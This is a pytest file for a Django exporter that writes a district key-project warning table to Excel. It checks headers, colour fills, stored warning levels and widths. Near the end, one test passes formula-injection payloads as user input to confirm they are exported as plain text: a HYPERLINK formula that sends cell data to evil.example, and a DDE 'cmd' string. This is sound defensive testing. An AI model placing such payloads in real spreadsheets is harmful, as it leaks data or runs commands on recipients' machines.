"""The exported 三色预警表 reads as the office's own: title, header, colours, stored results."""
from datetime import date, timedelta
from decimal import Decimal
from io import BytesIO

import openpyxl
import pytest
from django.core.management import call_command

from projects.models import Department, Project
from projects.workbook.exporter import (
    LEVEL_FILLS,
    MILESTONE_FILLS,
    build_workbook,
    write_workbook,
)
from qiantang_warnings.recompute import recompute_all

pytestmark = pytest.mark.django_db


def reopen(book):
    stream = BytesIO()
    book.save(stream)
    stream.seek(0)
    return openpyxl.load_workbook(stream).active


def header_index(sheet):
    return {cell.value: cell.column for cell in sheet[2]}


def row_of(sheet, code):
    for row in sheet.iter_rows(min_row=3):
        if row[0].value == code:
            return row
    raise AssertionError(code)


@pytest.fixture
def portfolio(make_project, today, django_user_model):
    cadre = django_user_model.objects.create_user("cadre9", last_name="王", first_name="建国")
    bureau = Department.objects.create(name="区经信局")
    red = make_project(
        "QT-0001", name="澜康微电子先进封装项目", level="provincial", sector="集成电路",
        total_investment=Decimal("12.50"), lead_department=bureau, responsible_cadre=cadre,
        progress_note="正在开展施工图审查。", open_problems="施工图审查意见尚未闭合。",
        milestones={
            "approval": dict(planned_date=date(2026, 3, 1), actual_date=date(2026, 3, 5)),
            "signing": dict(not_applicable=True),
            "land_listing": dict(planned_date=today - timedelta(days=20)),
            "land_transfer": dict(planned_date=today + timedelta(days=5)),
        },
    )
    green = make_project(
        "QT-0002", milestones={"approval": dict(planned_date=today + timedelta(days=100))}
    )
    paused = make_project(
        "QT-0003", state=Project.State.PAUSED,
        milestones={"approval": dict(planned_date=today - timedelta(days=50))},
    )
    recompute_all(today=today)
    return red, green, paused


def test_title_header_and_values_of_a_red_project(portfolio):
    sheet = reopen(build_workbook(Project.objects.all()))
    assert sheet.title == "三色预警表"
    assert sheet["A1"].value == "钱塘区重点项目三色预警表（截至2026年11月25日）"
    columns = header_index(sheet)
    assert list(columns)[:10] == [
        "项目编号", "项目名称", "项目级别", "产业类别", "总投资(亿元)", "牵头单位", "责任干部",
        "项目状态", "预警等级", "预警原因",
    ]
    assert "土地挂牌(计划)" in columns and "投产(实际)" in columns
    assert list(columns)[-2:] == ["进展情况", "存在问题"]
    assert sheet.freeze_panes == "C3"

    row = row_of(sheet, "QT-0001")
    value = lambda header: row[columns[header] - 1].value  # noqa: E731
    assert value("项目级别") == "省重点"
    assert value("总投资(亿元)") == 12.5
    assert value("牵头单位") == "区经信局"
    assert value("责任干部") == "王建国"
    assert value("项目状态") == "推进中"
    assert value("预警等级") == "红"
    assert value("预警原因") == "土地挂牌逾期20天；土地出让将于5天后到期"
    assert value("过会(实际)").date() == date(2026, 3, 5)
    assert value("项目签约(计划)") == "不适用"
    assert value("存在问题") == "施工图审查意见尚未闭合。"


def test_fills_show_the_project_colour_and_each_milestones_own(portfolio):
    sheet = reopen(build_workbook(Project.objects.all()))
    columns = header_index(sheet)
    row = row_of(sheet, "QT-0001")
    fill = lambda header: row[columns[header] - 1].fill.fgColor.rgb  # noqa: E731
    assert fill("预警等级") == LEVEL_FILLS["red"]
    assert fill("土地挂牌(计划)") == MILESTONE_FILLS["red"]
    assert fill("土地出让(计划)") == MILESTONE_FILLS["yellow"]
    assert fill("过会(计划)") == MILESTONE_FILLS["green"]  # done
    assert row[columns["项目签约(计划)"] - 1].fill.fill_type is None  # not applicable

    green = row_of(sheet, "QT-0002")
    assert green[columns["预警等级"] - 1].fill.fgColor.rgb == LEVEL_FILLS["green"]
    # A paused project has no colour: no level, no reasons, no milestone fills.
    paused = row_of(sheet, "QT-0003")
    assert paused[columns["预警等级"] - 1].value is None
    assert paused[columns["过会(计划)"] - 1].fill.fill_type is None


def test_export_shows_the_stored_result_not_a_fresh_one(portfolio, today):
    """A day later nothing was recomputed yet: the sheet still says what the board says."""
    Project.objects.filter(code="QT-0002").update(colour="yellow", reasons=[])
    sheet = reopen(build_workbook(Project.objects.all()))
    columns = header_index(sheet)
    assert row_of(sheet, "QT-0002")[columns["预警等级"] - 1].value == "黄"


def test_filtered_queryset_and_readable_widths(portfolio):
    sheet = reopen(build_workbook(Project.objects.filter(colour="red")))
    assert [r[0].value for r in sheet.iter_rows(min_row=3)] == ["QT-0001"]
    assert sheet.column_dimensions["B"].width >= 20  # 项目名称
    assert all(sheet.column_dimensions[c].width >= 8 for c in "ACDEFGH")


def test_export_command_writes_every_project(portfolio, tmp_path, django_assert_max_num_queries):
    target = tmp_path / "out.xlsx"
    with django_assert_max_num_queries(10):
        assert write_workbook(Project.objects.all(), target) == 3
    call_command("export_workbook", str(target))
    sheet = openpyxl.load_workbook(target).active
    assert [r[0].value for r in sheet.iter_rows(min_row=3)] == ["QT-0001", "QT-0002", "QT-0003"]


def test_the_baseline_colour_and_the_re_plan_count_are_beside_the_colour(make_project, today):
    from projects.models import MilestoneReplan

    project = make_project("QT-0009", milestones={
        "approval": dict(actual_date=today - timedelta(days=60)),
        "signing": dict(planned_date=today + timedelta(days=40), baseline_date=today - timedelta(days=5)),
    })
    MilestoneReplan.objects.create(
        milestone=project.milestones.get(milestone_type__code="signing"),
        old_planned_date=today - timedelta(days=5), new_planned_date=today + timedelta(days=40), reason="调整",
    )
    make_project("QT-0010", milestones={"approval": dict(planned_date=today + timedelta(days=100))})
    recompute_all(today=today)

    sheet = reopen(build_workbook(Project.objects.all()))
    columns = header_index(sheet)
    assert list(columns)[8:12] == ["预警等级", "预警原因", "基准预警等级", "调整计划次数"]
    replanned = row_of(sheet, "QT-0009")
    value = lambda row, header: row[columns[header] - 1].value  # noqa: E731
    assert (value(replanned, "预警等级"), value(replanned, "基准预警等级"), value(replanned, "调整计划次数")) == ("绿", "红", 1)
    assert replanned[columns["基准预警等级"] - 1].fill.fgColor.rgb == MILESTONE_FILLS["red"]
    steady = row_of(sheet, "QT-0010")
    assert (value(steady, "基准预警等级"), value(steady, "调整计划次数")) == ("绿", None)


@pytest.mark.parametrize("typed", [
    '=HYPERLINK("http://evil.example/?x="&B3,"click for details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
])
def test_every_text_a_user_typed_goes_out_as_text_never_a_formula(make_project, today, typed):
    make_project("QT-0009", name=typed, open_problems=typed, progress_note=typed)
    recompute_all(today=today)
    sheet = reopen(build_workbook(Project.objects.all()))
    columns = header_index(sheet)
    row = row_of(sheet, "QT-0009")
    for header in ("项目名称", "进展情况", "存在问题"):
        cell = row[columns[header] - 1]
        assert (cell.value, cell.data_type) == (typed, "s"), header
        assert cell.quotePrefix, header  # stays text when the office edits the cell


def test_control_characters_a_user_typed_do_not_break_the_export(make_project, today):
    make_project("QT-0010", name="项目\x1f名称", open_problems="第一行\x1b\x0b第二行\n第三行")
    recompute_all(today=today)
    sheet = reopen(build_workbook(Project.objects.all()))
    columns = header_index(sheet)
    row = row_of(sheet, "QT-0010")
    assert row[columns["项目名称"] - 1].value == "项目名称"
    assert row[columns["存在问题"] - 1].value == "第一行第二行\n第三行"
